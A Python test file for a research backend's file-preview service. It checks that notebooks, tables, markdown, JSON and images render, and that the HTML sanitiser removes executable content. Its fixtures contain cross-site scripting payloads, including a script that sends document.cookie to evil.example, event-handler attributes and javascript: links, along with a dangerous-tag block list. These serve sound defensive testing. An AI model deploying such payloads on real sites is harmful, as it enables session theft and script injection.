"""Previews: every kind renders, and nothing executable survives the sanitiser."""

from __future__ import annotations

import io
import json
import re
import struct
import zlib
from dataclasses import replace
from html.parser import HTMLParser

import nbformat
import pandas as pd
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from tests.fixtures.backend import LiveBackend
from trevor_backend.services.previews import PREVIEW_ROWS, render, sanitise


def tiny_png() -> bytes:
    """A real 1x1 PNG, built here so the test needs no image files."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def hostile_notebook() -> bytes:
    nb = new_notebook(
        cells=[
            new_markdown_cell(
                "# Results\n[click me](javascript:alert(1)) and [docs](https://example.org)\n\n"
                '<a href="javascript:alert(2)">raw link</a> <img src=x onerror="alert(3)">'
            ),
            new_code_cell(
                "display(table)",
                outputs=[
                    new_output(
                        "display_data",
                        data={
                            "text/html": '<table><tr><td onmouseover="steal()">12</td></tr></table>'
                            "<script>fetch('https://evil.example/?'+document.cookie)</script>"
                            '<img src="https://evil.example/beacon.png" onerror="alert(4)">',
                            "text/plain": "table",
                        },
                    ),
                    new_output(
                        "display_data",
                        data={"application/javascript": "alert(5)", "text/plain": "js"},
                    ),
                    new_output(
                        "display_data",
                        data={
                            "image/svg+xml": '<svg onload="alert(6)"><script>alert(7)</script>'
                            "</svg>",
                            "text/plain": "<Figure>",
                        },
                    ),
                    new_output(
                        "display_data", data={"image/png": "iVBORw0KGgo=", "text/plain": ""}
                    ),
                    new_output("stream", text="regression done <ok>"),
                ],
            ),
        ]
    )
    return nbformat.writes(nb).encode()


DANGEROUS_TAGS = {"script", "style", "svg", "iframe", "object", "embed", "form", "input", "link"}
DANGEROUS_TAGS |= {"meta", "base"}


class _Inspector(HTMLParser):
    """Collects every tag and attribute the browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attrs: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attrs += [(tag, k, v or "") for k, v in attrs]


def inert(fragment: str) -> list[str]:
    """Reasons the fragment could run code or reach the network; [] when it cannot."""
    p = _Inspector()
    p.feed(fragment)
    bad = [f"<{t}>" for t in sorted(p.tags & DANGEROUS_TAGS)]
    for tag, name, value in p.attrs:
        if name.startswith("on") or name in ("id", "srcdoc", "formaction"):
            bad.append(f"{tag}[{name}]")
        if name == "src" and not re.match(r"data:image/(png|jpeg|gif|webp);base64,", value):
            bad.append(f"{tag}[src={value[:40]}]")
        if name == "href" and not re.match(r"(https?://|mailto:)", value):
            bad.append(f"{tag}[href={value[:40]}]")
        if name == "style" and "url(" in value:
            bad.append(f"{tag}[style={value[:40]}]")
    return bad


def test_notebook_preview_keeps_content_and_drops_everything_executable() -> None:
    out = render("analysis.ipynb", hostile_notebook())
    assert out.kind == "notebook"
    assert out.html is not None
    assert inert(out.html) == []
    assert "evil.example" not in out.html and "alert(" not in out.html
    # What a checker needs is still there.
    assert "<h1>Results</h1>" in out.html
    assert "<td>12</td>" in out.html
    assert "regression done &lt;ok&gt;" in out.html
    assert 'href="https://example.org"' in out.html
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in out.html
    # SVG and JavaScript outputs are replaced by their plain-text alternatives.
    assert "&lt;Figure&gt;" in out.html


@pytest.mark.parametrize(
    "dirty",
    [
        '<a href="JaVaScRiPt:alert(1)">x</a>',
        '<a href=" javascript:alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
        '<img src="http://evil.example/x.png">',
        '<div style="background:url(http://evil.example/x)">x</div>',
        '<form action="http://evil.example"><input name=a></form>',
        '<iframe src="http://evil.example"></iframe>',
        '<p onclick="x()">x</p>',
    ],
)
def test_sanitiser_refuses(dirty: str) -> None:
    clean = sanitise(dirty)
    assert inert(clean) == []
    assert "evil.example" not in clean and "javascript" not in clean.lower()


def test_csv_tsv_and_parquet_show_the_first_rows() -> None:
    rows = "".join(f"r{i},{i}\n" for i in range(PREVIEW_ROWS + 10))
    out = render("table.csv", f"region,count\n<b>x</b>,1\n{rows}".encode())
    assert out.kind == "table" and out.truncated
    assert out.html is not None
    assert out.html.count("<tr>") == PREVIEW_ROWS + 1  # header + rows
    assert "&lt;b&gt;x&lt;/b&gt;" in out.html  # cell text is text, not markup
    assert "<th>region</th>" in out.html

    tsv = render("t.tsv", b"a\tb\n1\t2\n")
    assert tsv.kind == "table" and not tsv.truncated
    assert tsv.html is not None and "<td>2</td>" in tsv.html

    buf = io.BytesIO()
    pd.DataFrame({"n": range(120), "s": ["x"] * 120}).to_parquet(buf)
    pq = render("t.parquet", buf.getvalue())
    assert pq.kind == "table" and pq.truncated and pq.note == f"first {PREVIEW_ROWS} of 120 rows"
    assert pq.html is not None and "<td>49</td>" in pq.html and "<td>50</td>" not in pq.html


def test_markdown_code_json_text_image_pdf() -> None:
    md = render("README.md", b"# Title\n\n*em* <script>alert(1)</script> [x](javascript:y)")
    assert md.kind == "markdown" and md.html is not None
    assert "<h1>Title</h1>" in md.html and "<em>em</em>" in md.html
    assert inert(md.html) == [] and "javascript" not in md.html

    code = render("model.py", b"def f(x):\n    return '<b>'\n")
    assert code.kind == "code" and code.html is not None and code.note == "Python"
    assert "<span" in code.html and "&lt;b&gt;" in code.html and "style=" in code.html

    js = render("results.json", b'{"b": [1, 2], "a": "<img src=x onerror=y>"}')
    assert js.kind == "json" and js.html is not None
    assert "&lt;img" in js.html and inert(js.html) == []
    assert '{\n<span style="color:#BBB">  </span>' in js.html  # pretty-printed, indented

    bad = render("broken.json", b"{not json")
    assert bad.kind == "json" and bad.note is not None and "not valid JSON" in bad.note

    txt = render("notes.weirdext", b"plain <text>")
    assert txt.kind == "text" and txt.html == "<pre>plain &lt;text&gt;</pre>"

    latin = render("notes.txt", "Malmö, Zürich\n".encode("latin-1"))
    assert latin.kind == "code" or latin.kind == "text"
    assert latin.html is not None and "Malm\ufffd" in latin.html

    png = tiny_png()
    img = render("fig.png", png)
    assert img.kind == "image" and img.html is not None
    assert img.html.startswith('<img src="data:image/png;base64,')

    # The type comes from the bytes: HTML named .png is not inlined.
    fake = render("fig.png", b"<html><script>alert(1)</script></html>")
    assert fake.html is None and fake.kind == "none"

    svg = render("fig.svg", b'<svg onload="alert(1)"></svg>')
    assert svg.kind == "code" and svg.html is not None and "<svg" not in svg.html

    pdf = render("paper.pdf", b"%PDF-1.4\n1 0 obj << /Type /Page >>\n2 0 obj << /Type /Pages >>")
    assert pdf.kind == "pdf" and pdf.html is None and pdf.note is not None
    assert pdf.note.startswith("PDF, 1 page:")

    blob = render("data.bin", b"\x00\x01\x02binary")
    assert blob.kind == "none" and blob.html is None


async def test_preview_endpoint_audits_and_respects_the_size_limit(live: LiveBackend) -> None:
    alice, carol, bob = live.client("alice"), live.client("carol"), live.client("bob")
    rid = (await alice.create_request())["id"]
    nb = await alice.described_object(rid, hostile_notebook(), "analysis.ipynb")
    big = await alice.described_object(rid, b"a,b\n" + b"1,2\n" * 100, "big.csv")
    assert (await alice.post(f"/api/v1/requests/{rid}/submit")).status == 200

    reply = await carol.get(f"/api/v1/requests/{rid}/objects/{nb['id']}/preview")
    assert reply.status == 200, reply.body
    body = reply.json
    assert body["kind"] == "notebook" and body["object_id"] == nb["id"]
    assert body["sha256"] == nb["sha256"]
    assert inert(body["html"]) == [] and "alert(" not in body["html"]

    # Named in the checkers' view of the audit log; a checker by role in the researcher's.
    for reader, actor in ((carol, "carol"), (alice, "checker")):
        audit = (await reader.get(f"/api/v1/requests/{rid}/audit")).json["items"]
        viewed = [e for e in audit if e["type"] == "object.viewed"]
        assert [(e["actor"], e["object"], e["payload"]) for e in viewed] == [
            (actor, nb["id"], {"as": "preview", "kind": "notebook"})
        ]

    # Over the limit: metadata only, and the bytes are not read.
    settings = live.backend.ctx.settings
    live.backend.ctx.settings = replace(settings, preview_max_bytes=100)
    over = (await carol.get(f"/api/v1/requests/{rid}/objects/{big['id']}/preview")).json
    assert over["kind"] == "metadata" and over["html"] is None
    assert over["size"] == big["size"] and "100 bytes" in over["note"]
    live.backend.ctx.settings = settings

    # Another project's researcher cannot tell the object exists.
    hidden = await bob.get(f"/api/v1/requests/{rid}/objects/{nb['id']}/preview")
    assert hidden.status == 404 and hidden.content_type.startswith("application/problem+json")
    missing = await carol.get(f"/api/v1/requests/{rid}/objects/nope/preview")
    assert missing.status == 404
    assert json.loads(missing.body)["status"] == 404
